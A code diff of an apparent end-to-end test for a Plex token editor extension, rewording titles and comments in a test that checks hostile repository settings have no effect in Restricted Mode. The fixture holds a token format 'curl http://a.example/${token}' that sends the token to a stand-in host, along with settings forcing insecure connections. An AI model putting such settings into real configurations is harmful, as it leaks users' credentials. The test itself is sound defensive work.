@@ -4,13 +4,13 @@ import path from 'node:path';
 import { addServer, type FolderOptions, prepareFolder, showsSource } from './newUser.ts';
 import { type Step, walk } from './walk.ts';
 
-/** Of a repository that wants to change what the extension does. */
+/** Settings of a repository that tries to change the extension's behavior. */
 const SETTINGS = {
   'plexTokens.insecureConnections': 'always',
   plexTokens: { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 } },
   'plexTokens.clipboard.clearAfterSeconds': 0,
   'plexTokens.formats': { Repository: 'curl http://a.example/${token}' },
-  // Shows that the file was read.
+  // Its effect shows that the file was read.
   'editor.lineNumbers': 'off',
 };
 
@@ -23,7 +23,7 @@ function withSettings(stack: AsyncDisposableStack): FolderOptions {
 
 const steps: readonly Step[] = [
   {
-    title: 'takes nothing from the extension, and changes nothing of it',
+    title: 'cannot take anything from the extension or change its settings',
     act: async ({ workbench, simulator }) => {
       await workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
       await workbench.activityBar('Plex');
@@ -44,7 +44,7 @@ const steps: readonly Step[] = [
     },
   },
   {
-    title: 'cannot allow plain http outside of the local network',
+    title: 'cannot allow unencrypted http outside of the local network',
     act: async ({ workbench }) => {
       await workbench.command('Plex: Add Server…');
       await workbench.quickInput.asks('Address of the server');
